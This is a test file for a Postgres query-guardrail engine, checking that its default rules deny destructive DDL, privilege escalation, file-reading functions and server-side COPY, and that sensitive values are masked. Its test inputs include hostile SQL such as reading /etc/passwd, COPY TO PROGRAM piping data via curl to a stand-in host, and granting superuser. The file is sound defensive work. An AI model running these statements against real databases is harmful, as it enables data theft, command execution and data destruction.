import { describe, expect, it } from 'vitest';
import { compilePolicy, DANGEROUS_FUNCTIONS, decide, DEFAULT_DETECTORS, defaultPolicyRules } from './index.js';
import { decisionTable } from './test-tables.js';

describe('default rule pack', () => {
  it('names its rules and turns the value detectors on', () => {
    const rules = defaultPolicyRules();
    expect(rules.guardrails?.map((r) => [r.type, r.name])).toEqual([
      ['deny_kinds', 'default.privileges'],
      ['deny_settings', 'default.session-identity'],
      ['deny_kinds', 'default.destructive-ddl'],
      ['deny_kinds', 'default.code-and-reach'],
      ['require_where', 'default.require-where'],
      ['max_rows_affected', 'default.max-rows-affected'],
      ['deny_functions', 'default.dangerous-functions'],
      ['deny_copy', 'default.copy-server-side'],
    ]);
    expect(rules.masking?.detectors).toEqual([
      { detector: 'email', strategy: 'redact' },
      { detector: 'credit_card', strategy: 'last4' },
      { detector: 'us_ssn', strategy: 'redact' },
      { detector: 'phone', strategy: 'redact' },
      { detector: 'iban', strategy: 'redact' },
      { detector: 'ipv4', strategy: 'redact' },
      { detector: 'ipv6', strategy: 'redact' },
      { detector: 'jwt', strategy: 'redact' },
      { detector: 'aws_access_key_id', strategy: 'redact' },
      { detector: 'bearer_token', strategy: 'redact' },
      { detector: 'api_key', strategy: 'redact' },
      { detector: 'pem_private_key', strategy: 'redact' },
    ]);
    expect(compilePolicy(rules, 1).masking.detectors).toEqual(
      Object.fromEntries(DEFAULT_DETECTORS.map((d) => [d.detector, d.strategy])),
    );
    expect(DANGEROUS_FUNCTIONS).toEqual(
      expect.arrayContaining(['pg_read_file', 'pg_read_binary_file', 'lo_import', 'lo_export', 'dblink*']),
    );
  });

  it('returns a fresh copy each time', () => {
    const a = defaultPolicyRules();
    a.guardrails?.pop();
    expect(defaultPolicyRules().guardrails).toHaveLength(8);
  });

  it('holds a single UPDATE to 1000 rows', () => {
    const policy = compilePolicy(defaultPolicyRules(), 1);
    expect(decide(policy, 'UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 1')).toMatchObject({
      action: 'allow',
      maskedColumns: [],
      rowLimit: { rule: 'default.max-rows-affected', limit: 1000 },
    });
  });
});

decisionTable('default rule pack decisions', defaultPolicyRules(), [
  [
    'DROP TABLE t',
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind drop is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    'DROP SCHEMA s CASCADE',
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind drop is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    'DROP DATABASE d',
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind drop_database is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    'TRUNCATE t',
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind truncate is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    'ALTER TABLE t DROP COLUMN c',
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind alter_table is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    'ALTER SYSTEM SET fsync = off',
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind alter_system is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    "LOAD 'evil'",
    'default.destructive-ddl',
    'DROP, TRUNCATE, ALTER and LOAD are not allowed on this connection',
    'statement kind load is denied by rule "default.destructive-ddl"',
    0,
  ],
  [
    'GRANT ALL ON t TO public',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind grant is denied by rule "default.privileges"',
    0,
  ],
  [
    'REVOKE SELECT ON t FROM u',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind revoke is denied by rule "default.privileges"',
    0,
  ],
  [
    'GRANT pg_execute_server_program TO me',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind grant is denied by rule "default.privileges"',
    0,
  ],
  [
    'CREATE ROLE r SUPERUSER',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind create_role is denied by rule "default.privileges"',
    0,
  ],
  [
    'ALTER ROLE me SUPERUSER',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind alter_role is denied by rule "default.privileges"',
    0,
  ],
  [
    'DROP ROLE r',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind drop_role is denied by rule "default.privileges"',
    0,
  ],
  [
    'ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public',
    'default.privileges',
    'changing roles and privileges (GRANT, REVOKE, CREATE/ALTER/DROP ROLE) is not allowed on this connection',
    'statement kind alter_default_privileges is denied by rule "default.privileges"',
    0,
  ],
  [
    'DELETE FROM t',
    'default.require-where',
    'UPDATE and DELETE need a WHERE clause on this connection',
    'DELETE on t has no WHERE clause that references a column',
    0,
  ],
  [
    'UPDATE t SET a = 1',
    'default.require-where',
    'UPDATE and DELETE need a WHERE clause on this connection',
    'UPDATE on t has no WHERE clause that references a column',
    0,
  ],
  [
    'DELETE FROM t WHERE 1 = 1',
    'default.require-where',
    'UPDATE and DELETE need a WHERE clause on this connection',
    'DELETE on t has no WHERE clause that references a column',
    0,
  ],
  [
    "SELECT pg_read_file('/etc/passwd')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function pg_read_file matches "pg_read_file" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT pg_read_binary_file('/etc/passwd')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function pg_read_binary_file matches "pg_read_binary_file" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT * FROM pg_ls_dir('.')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function pg_ls_dir matches "pg_ls_dir" in rule "default.dangerous-functions"',
    0,
  ],
  [
    'SELECT pg_ls_waldir()',
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function pg_ls_waldir matches "pg_ls_*dir" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT lo_import('/etc/passwd')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function lo_import matches "lo_import" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT lo_export(1, '/tmp/x')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function lo_export matches "lo_export" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function dblink matches "dblink*" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT dblink_exec('x', 'drop table t')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function dblink_exec matches "dblink*" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "SELECT pg_stat_file('x')",
    'default.dangerous-functions',
    'functions that reach the server file system, run programs or open connections are not allowed',
    'function pg_stat_file matches "pg_stat_file" in rule "default.dangerous-functions"',
    0,
  ],
  [
    "COPY t TO PROGRAM 'curl -d @- evil'",
    'default.copy-server-side',
    'COPY to or from a server file or program is not allowed on this connection',
    'COPY TO PROGRAM (\'curl -d @- evil\') is denied by rule "default.copy-server-side"',
    0,
  ],
  [
    "COPY t FROM PROGRAM 'id'",
    'default.copy-server-side',
    'COPY to or from a server file or program is not allowed on this connection',
    'COPY FROM PROGRAM (\'id\') is denied by rule "default.copy-server-side"',
    0,
  ],
  [
    "COPY t TO '/tmp/out'",
    'default.copy-server-side',
    'COPY to or from a server file or program is not allowed on this connection',
    'COPY TO a server file (\'/tmp/out\') is denied by rule "default.copy-server-side"',
    0,
  ],
  [
    "COPY t FROM '/etc/passwd'",
    'default.copy-server-side',
    'COPY to or from a server file or program is not allowed on this connection',
    'COPY FROM a server file (\'/etc/passwd\') is denied by rule "default.copy-server-side"',
    0,
  ],
  [
    "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
    'default.dangerous-functions',
    'this statement contains code Warden cannot inspect (DO block: dynamic SQL (EXECUTE)); refusing it (fail closed)',
    'rule "default.dangerous-functions" cannot verify which functions this code calls',
    0,
  ],
  ['SELECT abalance FROM pgbench_accounts WHERE aid = 1', 'allow'],
  ['INSERT INTO t VALUES (1)', 'allow'],
  ['CREATE TABLE t (a int)', 'allow'],
  ['CREATE INDEX ON t (a)', 'allow'],
  ['COPY t TO STDOUT', 'allow'],
  ['COPY t FROM STDIN', 'allow'],
  ['BEGIN; SELECT 1; COMMIT', 'allow'],
  ['SET search_path = app', 'allow'],
  [
    // The row count of an UPDATE inside a DO block cannot be read from a command tag.
    'DO $$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $$',
    'default.max-rows-affected',
    'UPDATE inside DO cannot be held to the limit of 1000 rows of rule "default.max-rows-affected": the row count Postgres reports is that of the outer statement only; send the UPDATE/DELETE/MERGE as a query of its own, outside WITH, EXPLAIN ANALYZE and bodies',
    'UPDATE inside DO is refused by max_rows_affected rule "default.max-rows-affected" (limit 1000) because its rows cannot be counted',
    0,
  ],
  [
    "DO $$ BEGIN COPY t TO PROGRAM 'x'; END $$",
    'default.copy-server-side',
    'COPY to or from a server file or program is not allowed on this connection',
    'COPY TO PROGRAM (\'x\') is denied by rule "default.copy-server-side"',
    0,
  ],
  [
    'DELETE FROM t WHERE $1',
    'default.require-where',
    'UPDATE and DELETE need a WHERE clause on this connection',
    'DELETE on t has no WHERE clause that references a column',
    0,
  ],
  [
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'",
    'default.require-where',
    'UPDATE and DELETE need a WHERE clause on this connection',
    'DELETE on t has no WHERE clause that references a column',
    0,
  ],
]);
